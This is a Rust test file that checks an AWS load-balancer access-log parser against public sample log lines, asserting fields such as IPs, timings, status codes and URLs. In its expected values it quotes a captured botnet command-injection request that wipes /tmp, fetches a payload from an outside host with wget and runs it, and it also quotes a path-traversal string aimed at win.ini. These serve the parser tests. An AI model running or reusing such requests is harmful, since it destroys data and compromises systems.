//! Conformance against the shared public corpus (`shared/samples/`), read from
//! disk: `$HOSP_LOGS_SHARED_DIR` or else `<crate>/../shared`. Fails (does not
//! skip) when the files are missing. Expected values are from
//! `shared/samples/alb-public-expected.md` (vrl, simnalamburt, crowdsec, beats,
//! elastic/integrations, OTel, azul); where those keep `-`/-1 or `""`, this
//! parser's documented mapping (None) is asserted instead.

use std::path::PathBuf;

use super::*;

fn shared_dir() -> (PathBuf, &'static str) {
    match std::env::var("HOSP_LOGS_SHARED_DIR") {
        Ok(dir) if !dir.is_empty() => (PathBuf::from(dir), "$HOSP_LOGS_SHARED_DIR"),
        _ => (
            PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../shared")),
            "the default <CARGO_MANIFEST_DIR>/../shared (set HOSP_LOGS_SHARED_DIR to override)",
        ),
    }
}

fn read_sample(name: &str) -> String {
    let (dir, source) = shared_dir();
    let path = dir.join("samples").join(name);
    std::fs::read_to_string(&path).unwrap_or_else(|e| {
        panic!(
            "shared corpus file missing: could not read {} ({e}); looked in {} from {source}",
            path.display(),
            dir.display()
        )
    })
}

fn sample_lines() -> Vec<String> {
    read_sample("alb-public.log")
        .lines()
        .map(str::to_owned)
        .collect()
}

#[test]
fn all_public_lines_parse() {
    let lines = sample_lines();
    assert_eq!(lines.len(), 51, "alb-public.log should have 51 lines");
    for (i, line) in lines.iter().enumerate() {
        let r = parse_line(line).unwrap_or_else(|e| panic!("line {}: {e}", i + 1));
        assert!(r.field_count >= MIN_FIELDS);
        assert!(r.elb_status_code.is_some(), "line {}", i + 1);
    }
}

#[test]
fn malformed_public_lines_are_rejected() {
    let text = read_sample("alb-public-malformed.log");
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 2);
    let fields: Vec<_> = lines
        .iter()
        .map(|l| parse_line(l).map(|_| ()).unwrap_err().field)
        .collect();
    assert_eq!(
        fields,
        [Some("chosen_cert_arn"), Some("matched_rule_priority")]
    );
}

#[test]
fn spot_checks_against_public_expectations() {
    let lines = sample_lines();
    let rec = |n: usize| parse_line(&lines[n - 1]).unwrap();

    // Line 8 (vrl `eight`).
    let r = rec(8);
    assert_eq!(
        (r.kind, r.elb),
        ("https", "app/awseb-AWSEB-1MVD8OW91UMOH/a32a5528b8fdaa6b")
    );
    assert_eq!(
        (r.client_ip, r.client_port),
        (Some("10.209.14.140"), Some(50599))
    );
    assert_eq!(
        (r.target_ip, r.target_port),
        (Some("10.119.5.47"), Some(80))
    );
    assert_eq!(
        (
            r.request_processing_time,
            r.target_processing_time,
            r.response_processing_time
        ),
        (Some(0.001), Some(0.052), Some(0.0))
    );
    assert_eq!(
        (r.elb_status_code, r.target_status_code),
        (Some(200), Some(200))
    );
    assert_eq!((r.received_bytes, r.sent_bytes), (Some(589), Some(2084)));
    assert_eq!(r.method, Some("POST"));
    assert_eq!(
        r.url,
        Some("https://test.domain.com:443/api/deposits/transactions:search?detailsLevel=FULL&offset=0&limit=50")
    );
    assert_eq!(r.protocol, Some("HTTP/1.1"));
    assert_eq!(r.user_agent, Some("User 1.0"));
    assert_eq!(r.trace_id, Some("Root=1-605112f0-31f367be4fd3da651daa4157"));
    assert_eq!(r.domain_name, Some("some.domain.com"));
    assert_eq!(r.matched_rule_priority, Some(0));
    assert_eq!(r.actions_executed, Some("waf,forward"));
    assert_eq!(r.target_port_list, Some("10.229.5.47:80"));
    assert_eq!(r.target_status_code_list, Some("200"));
    assert_eq!(
        r.conn_trace_id,
        Some("TID_dc57cebed65b444ebc8177bb698fe166")
    );

    // Line 9 (vrl `nine`): -1 times are None, malformed request split.
    let r = rec(9);
    assert_eq!(r.request_processing_time, None);
    assert_eq!(r.target_processing_time, None);
    assert_eq!(r.response_processing_time, None);
    assert_eq!(r.latency_ms(), None);
    assert_eq!((r.elb_status_code, r.target_status_code), (Some(400), None));
    assert_eq!(r.method, None);
    assert_eq!(
        r.url,
        Some("http://awseb-awseb-1kgu6fbag3fad-640112591.us-east-1.elb.amazonaws.com:80-")
    );
    assert_eq!(r.protocol, None);
    assert_eq!(
        (r.user_agent, r.trace_id, r.matched_rule_priority),
        (None, None, None)
    );

    // Line 10 (vrl `ten`).
    let r = rec(10);
    assert_eq!((r.method, r.protocol), (Some("POST"), Some("HTTP/1.1")));
    assert_eq!(
        r.user_agent,
        Some("Mozilla/5.0 (X11; Linux x86_64; rv:60.0) Gecko/20100101 Firefox/60.0")
    );
    assert_eq!((r.received_bytes, r.sent_bytes), (Some(191), Some(272)));

    // Line 11 (vrl `eleven`): unbracketed IPv6, split on the last ':'.
    let r = rec(11);
    assert_eq!(r.client_ip, Some("2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc"));
    assert_eq!(r.client_port, Some(50599));
    assert_eq!(r.target_ip, Some("fd6d:6bbc:c529:6::face:ed83:f46"));
    assert_eq!(r.target_port, Some(80));
    assert_eq!(
        r.target_port_list,
        Some("fd6d:6bbc:c529:27ff:b::dead:ed84:80")
    );

    // Line 12 (vrl `thirteen`): unquoted target lists.
    let r = rec(12);
    assert_eq!(
        (r.target_port_list, r.target_status_code_list),
        (Some("10.0.0.1:80"), Some("200"))
    );
    assert_eq!(
        r.conn_trace_id,
        Some("TID_dc57cebed65b444ebc8177bb698fe166")
    );

    // Line 13 (vrl non-strict example).
    let r = rec(13);
    assert_eq!(r.conn_trace_id, Some("TID_12345"));
    assert_eq!((r.target_ip, r.target_port_list), (None, None));

    // Line 14 (simnalamburt): URL without port.
    let r = rec(14);
    assert_eq!(
        (r.url, r.protocol),
        (Some("https://example.com"), Some("HTTP/2.0"))
    );
    assert_eq!(r.matched_rule_priority, Some(5));
    assert_eq!(
        (r.client_ip, r.client_port),
        (Some("123.123.123.123"), Some(65432))
    );

    // Lines 15, 16 (simnalamburt): malformed requests with and without version.
    for n in [15, 16] {
        let r = rec(n);
        assert_eq!(
            (r.method, r.url, r.protocol),
            (None, Some("http://example.com:8080-"), None)
        );
    }

    // Line 17: session-reused.
    assert_eq!(rec(17).chosen_cert_arn, Some("session-reused"));

    // Line 18: WAF block 503.
    let r = rec(18);
    assert_eq!((r.elb_status_code, r.target_status_code), (Some(503), None));
    assert_eq!(r.target_group_arn, None);
    assert_eq!(r.domain_name, Some("*"));
    assert_eq!(r.actions_executed, Some("waf,fixed-response"));

    // Line 19: odd method, rule priority `-`.
    let r = rec(19);
    assert_eq!(r.method, Some("SSTP_DUPLEX_POST"));
    assert_eq!(
        r.url,
        Some("https://10.100.10.100:443/sra_{BA195980-CD49-458b-9E23-C84EE0ADCD75}/")
    );
    assert_eq!((r.matched_rule_priority, r.trace_id), (None, None));

    // Line 20: trailing space after the version; classification.
    let r = rec(20);
    assert_eq!(r.protocol, Some("HTTP/1.0"));
    assert_eq!(
        r.url,
        Some("http://myalb-012345678.ap-northeast-2.elb.amazonaws.com:80/")
    );
    assert_eq!(
        (r.classification, r.classification_reason),
        (Some("Acceptable"), Some("NonCompliantVersion"))
    );

    // Line 21: SNI is ip:port.
    assert_eq!(rec(21).domain_name, Some("12.123.123.12:443"));

    // Lines 22-24: user agents stay raw (escapes kept).
    assert_eq!(
        rec(22).user_agent,
        Some(
            r"\x22Mozilla/5.0 (iPhone; CPU iPhone OS 11_4 like Mac OS X) available_resolution = 667,375 Apple Inc.~Apple A11 GPU\x22"
        )
    );
    assert_eq!(
        rec(23).user_agent,
        Some(r"\xEC\x97\x90\xEC\x9D\xB4\xEC\xA0\x84\xED\x8A\xB8")
    );
    assert!(rec(24)
        .user_agent
        .unwrap()
        .starts_with(r"\x00000022Mozilla/5.0"));

    // Line 25: leading space in domain_name dropped; "" actions -> None (documented).
    let r = rec(25);
    assert_eq!(r.domain_name, Some("some-subdomain.domain.com"));
    assert_eq!(r.actions_executed, None);

    // Line 26: method `--location`.
    assert_eq!(rec(26).method, Some("--location"));

    // Line 27: redirect with raw \x5C, TLSv1.3.
    let r = rec(27);
    assert_eq!(
        r.redirect_url,
        Some(r"https://redirect.example.com?key1=value1&key2=..\x5C..\x5C..\x5Cwindows\x5Cwin.ini")
    );
    assert_eq!(
        (r.ssl_cipher, r.ssl_protocol),
        (Some("TLS_AES_128_GCM_SHA256"), Some("TLSv1.3"))
    );

    // Line 28: TID.
    assert_eq!(
        rec(28).conn_trace_id,
        Some("TID_dc57cebed65b444ebc8177bb698fe166")
    );

    // Line 32 (crowdsec record 7): transform fields.
    let r = rec(32);
    assert_eq!(
        (r.client_ip, r.client_port),
        (Some("192.168.131.39"), Some(2817))
    );
    assert_eq!((r.target_ip, r.target_port), (Some("10.0.0.1"), Some(80)));
    assert_eq!(r.conn_trace_id, Some("TID_1234abcd5678ef90"));
    assert_eq!(r.transformed_host, Some("m.example.com"));
    assert_eq!(r.transformed_uri, None);
    assert_eq!(r.request_transform_status, Some("TransformSuccess"));
    assert_eq!(r.matched_rule_priority, Some(1));

    // Line 35 (beats): 460.
    let r = rec(35);
    assert_eq!((r.elb_status_code, r.target_status_code), (Some(460), None));
    assert_eq!((r.target_ip, r.target_port), (Some("10.0.0.192"), Some(80)));
    assert_eq!(
        (r.client_ip, r.client_port),
        (Some("77.227.156.41"), Some(56398))
    );
    assert_eq!((r.received_bytes, r.sent_bytes), (Some(125), Some(0)));
    assert_eq!(r.latency_ms(), None);
    assert_eq!(r.trace_id, Some("Root=1-5da09932-2c342a443bfb96249aa50ed7"));
    assert_eq!(r.field_count, 25);

    // Line 36 (beats): 504, request created 10 s before the response.
    let r = rec(36);
    assert_eq!(r.elb_status_code, Some(504));
    assert_eq!(
        (r.target_ip, r.client_port, r.sent_bytes),
        (Some("10.0.1.107"), Some(56488), Some(308))
    );
    let created = r.request_creation_time_us.unwrap();
    assert_eq!(r.time_us - created, 10_001_440);

    // Line 38 (elastic/integrations): SpaceInUri.
    let r = rec(38);
    assert_eq!(r.method, Some("GET"));
    assert_eq!(
        r.url,
        Some("http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws")
    );
    assert_eq!(r.protocol, Some("HTTP/1.1"));
    assert_eq!(
        r.redirect_url,
        Some("https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws")
    );
    assert_eq!(r.classification_reason, Some("SpaceInUri"));
    assert_eq!(r.user_agent, Some("Hello, world"));
    let u = split_url(r.url.unwrap());
    assert_eq!(
        (u.scheme, u.host, u.port, u.path),
        (Some("http"), Some("127.0.0.1"), Some(80), Some("/shell"))
    );
    assert_eq!(
        u.query,
        Some("cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws")
    );

    // Line 40 (goaccess#2557): real IPv6 client.
    let r = rec(40);
    assert_eq!(r.client_ip, Some("2a02:a33c:4538:1:bcf4:5264:e01c:f215"));
    assert_eq!(r.client_port, Some(50718));
    assert_eq!(
        (r.elb_status_code, r.target_status_code),
        (Some(401), Some(401))
    );

    // Line 41: rule priority 10160.
    assert_eq!(rec(41).matched_rule_priority, Some(10160));

    // Line 47 (OTel): bracketed IPv6; time in µs.
    let r = rec(47);
    assert_eq!(
        (r.client_ip, r.client_port),
        (Some("fe80::202:b3ff:fe1e:8329"), Some(443))
    );
    assert_eq!(
        (r.target_ip, r.target_port),
        (Some("2001:db8::1"), Some(80))
    );
    assert_eq!(r.time_us, 1_530_570_180_186_641); // timeUnixNano 1530570180186641000
    assert_eq!(r.actions_executed, Some("authenticate,forward"));

    // Lines 48-51 (azul): request and user agent raw; decoding is a separate view.
    for (n, escaped, decoded) in [
        (48, r"\x22", "\""),
        (49, r"\x5c", "\\"),
        (50, r"\xC3\x88", "È"),
        (51, r"\xf0\x9f\x98\x80", "😀"),
    ] {
        let r = rec(n);
        assert_eq!(
            r.request,
            format!("POST https://gitlab.dev.singlecell.gi.ucsc.edu:443/api/v4/jobs/request?chars={escaped} HTTP/1.1")
        );
        let ua = r.user_agent.unwrap();
        assert_eq!(
            ua,
            format!("gitlab-runner 15.6.1 (15-6-stable; go1.18.8; linux/amd64; {escaped})")
        );
        assert_eq!(
            decode_escapes(ua),
            format!("gitlab-runner 15.6.1 (15-6-stable; go1.18.8; linux/amd64; {decoded})")
        );
        assert_eq!(r.target_port_list, Some("172.71.0.215:80"));
        assert_eq!(r.elb_status_code, Some(204));
    }
}

#[test]
fn field_counts_of_the_corpus() {
    let lines = sample_lines();
    let counts: Vec<usize> = lines
        .iter()
        .map(|l| parse_line(l).unwrap().field_count)
        .collect();
    for (n, want) in [
        (1, 29),
        (8, 30),
        (12, 33),
        (32, 33),
        (35, 25),
        (37, 25),
        (43, 27),
        (45, 20),
        (46, 21),
    ] {
        assert_eq!(counts[n - 1], want, "line {n}");
    }
}
